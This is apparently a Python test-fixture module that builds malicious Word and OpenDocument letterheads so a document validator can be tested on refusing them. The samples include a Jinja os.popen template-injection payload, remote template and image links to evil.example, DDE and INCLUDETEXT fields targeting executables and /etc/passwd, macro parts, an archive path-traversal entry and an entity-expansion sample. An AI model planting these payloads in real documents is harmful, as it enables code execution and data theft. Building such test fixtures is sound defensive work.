"""Builds the bad letterheads: most are small lies inside an archive, which no one could review as bytes."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Mapping

from hospitium.documents.letters.usual import docx_parts, odt_parts

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
LINK = "http://www.w3.org/1999/xlink"
Parts = dict[str, bytes | str]
POPEN = "{{ cycler.__init__.__globals__.os.popen('id') }}"


def pack(parts: Mapping[str, bytes | str]) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return target.getvalue()


def docx(body: str = "", **changed: str) -> bytes:
    """The usual paper with something put in front of its text; `changed` replaces or adds parts by short names."""
    parts: Parts = dict(docx_parts("de"))
    parts["word/document.xml"] = text(parts, "word/document.xml").replace("<w:body>", f"<w:body>{body}")
    return pack({**parts, **{NAMES[name]: content for name, content in changed.items()}})


def odt(body: str = "", *, space: str = "", **changed: str) -> bytes:
    parts: Parts = dict(odt_parts("de"))
    content = text(parts, "content.xml").replace("<office:text>", f"<office:text>{body}")
    parts["content.xml"] = content.replace("<office:document-content ", f"<office:document-content {space} ", 1)
    return pack({**parts, **{NAMES[name]: content for name, content in changed.items()}})


NAMES = {
    "macro": "word/vbaProject.bin",
    "embedded": "word/embeddings/oleObject1.bin",
    "relations": "word/_rels/document.xml.rels",
    "settings_relations": "word/_rels/settings.xml.rels",
    "settings": "word/settings.xml",
    "basic": "Basic/Standard/Module1.xml",
    "entities": "customXml/item1.xml",
    "types": "[Content_Types].xml",
    "mimetype": "mimetype",
    "manifest": "META-INF/manifest.xml",
    "out": "../../evil.xml",
}


def text(parts: Parts, name: str) -> str:
    content = parts[name]
    return content if isinstance(content, str) else content.decode()


def paragraph(*runs: str) -> str:
    inside = "".join(f'<w:r><w:t xml:space="preserve">{run}</w:t></w:r>' for run in runs)
    return f"<w:p>{inside}</w:p>"


def field(*instructions: str) -> str:
    """A field whose instruction is split into several runs."""
    said = "".join(f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in instructions)
    marks = {kind: f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end")}
    return f"<w:p>{marks['begin']}{said}{marks['separate']}<w:r><w:t>x</w:t></w:r>{marks['end']}</w:p>"


def relation(kind: str, target: str, *, external: bool = True) -> str:
    mode = ' TargetMode="External"' if external else ""
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="x" Type="{RELATIONS}/{kind}" Target="{target}"{mode}/></Relationships>'
    )


LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>'
FOREIGN = (
    f'xmlns:xlink="{LINK}" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:dc="http://purl.org/dc/elements/1.1/"'
)
MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"


def macro_types() -> str:
    usual = text(dict(docx_parts("de")), "[Content_Types].xml")
    return usual.replace("application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", MACRO_TYPE)


def locked_parts() -> bytes:
    content = bytearray(pack({"word/document.xml": "x", "[Content_Types].xml": "y"}))
    for at in (content.find(b"PK\x01\x02") + 8, 6):
        content[at] |= 1
    return bytes(content)


# Name → (bytes, why it is refused).
FILES: Mapping[str, tuple[bytes, str]] = {
    "jinja in one run": (docx(paragraph(POPEN)), "placeholders"),
    "jinja over runs": (docx(paragraph("{", "{ cycler }", "}")), "placeholders"),
    "jinja block": (docx(paragraph("{% for x in y %}")), "placeholders"),
    "jinja odt": (odt(f"<text:p>{POPEN}</text:p>"), "placeholders"),
    "jinja odt over spans": (odt("<text:p>{<text:span>{ x }</text:span>}</text:p>"), "placeholders"),
    "unknown mark": (docx(paragraph("«passport_no»")), "mark"),
    "mark with attributes": (docx(paragraph("«office.__class__»")), "mark"),
    "macro": (docx(macro="MZ"), "macros"),
    "docm": (docx(types=macro_types()), "macros"),
    "basic": (odt(basic="<x/>"), "macros"),
    "ole": (docx(embedded="x"), "objects"),
    "ole relation": (docx(relations=relation("oleObject", "word/x.bin", external=False)), "objects"),
    "remote template": (docx(settings_relations=relation("attachedTemplate", "http://evil.example/x.dotm")), "remote"),
    "unc template": (docx(settings_relations=relation("attachedTemplate", r"\\evil\x.dotm")), "remote"),
    "remote picture": (docx(relations=relation("image", "http://evil.example/x.png")), "remote"),
    "script link": (docx(relations=relation("hyperlink", "file:///c:/x.exe")), "remote"),
    "frame": (docx(relations=relation("frame", "http://evil.example/")), "objects"),
    "alternative chunk": (docx('<w:altChunk r:id="r1"/>'), "objects"),
    "mail merge source": (docx(settings=f'<w:settings xmlns:w="{W}"><w:mailMerge/></w:settings>'), "remote"),
    "dde field": (docx(field("DDEAUTO c:\\x.exe")), "fields"),
    "dde field over runs": (docx(field(" D", "DE", "AUTO x")), "fields"),
    "include text": (docx(field("INCLUDETEXT /etc/passwd")), "fields"),
    "simple field": (docx('<w:p><w:fldSimple w:instr="INCLUDEPICTURE x"/></w:p>'), "fields"),
    "tracked": (docx('<w:p><w:ins w:id="1" w:author="Somebody"><w:r><w:t>x</w:t></w:r></w:ins></w:p>'), "tracked"),
    "comment": (docx('<w:p><w:r><w:commentReference w:id="0"/></w:r></w:p>'), "tracked"),
    "odt remote picture": (odt('<draw:image xlink:href="http://evil.example/x.png"/>', space=FOREIGN), "remote"),
    "odt picture outside": (odt('<draw:image xlink:href="../../etc/x.png"/>', space=FOREIGN), "remote"),
    "odt object": (odt('<draw:object xlink:href="./Object 1"/>', space=FOREIGN), "objects"),
    "odt script": (
        odt('<text:p><text:a xlink:href="vnd.sun.star.script:x">x</text:a></text:p>', space=FOREIGN),
        "macros",
    ),
    "odt event": (odt('<script:event-listener script:language="x"/>', space=FOREIGN), "macros"),
    "odt source": (
        odt('<text:section><text:section-source xlink:href="x.odt"/></text:section>', space=FOREIGN),
        "remote",
    ),
    "odt dde": (odt("<text:dde-connection/>"), "fields"),
    "odt macro button": (odt("<text:p><text:execute-macro/></text:p>"), "macros"),
    "odt comment": (odt("<text:p><office:annotation/></text:p>"), "tracked"),
    "odt tracked": (odt("<text:tracked-changes><text:changed-region/></text:tracked-changes>"), "tracked"),
    "entities": (docx(entities=LAUGHS), "archive"),
    "out of the archive": (docx(out="<x/>"), "archive"),
    "encrypted": (locked_parts(), "archive"),
    "not an archive": (b"{{ x }}", "archive"),
    "a table": (pack({"xl/workbook.xml": "<x/>", "[Content_Types].xml": "<x/>"}), "kind"),
    "template file": (odt(mimetype="application/vnd.oasis.opendocument.text-template"), "kind"),
}
